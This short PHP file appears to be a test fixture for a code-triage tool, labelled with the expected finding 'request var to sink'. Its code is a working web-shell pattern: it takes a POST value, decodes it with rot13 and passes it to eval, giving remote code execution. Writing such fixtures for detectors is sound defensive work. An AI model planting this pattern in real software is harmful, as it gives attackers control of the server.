<?php
// triage-expect: triage_php_request_var_to_sink
// the request value waits in a variable; a wrapper call sits between it and the sink
$payload = $_POST['p'];
if (isset($_POST['go'])) {
    eval(str_rot13($payload));
}
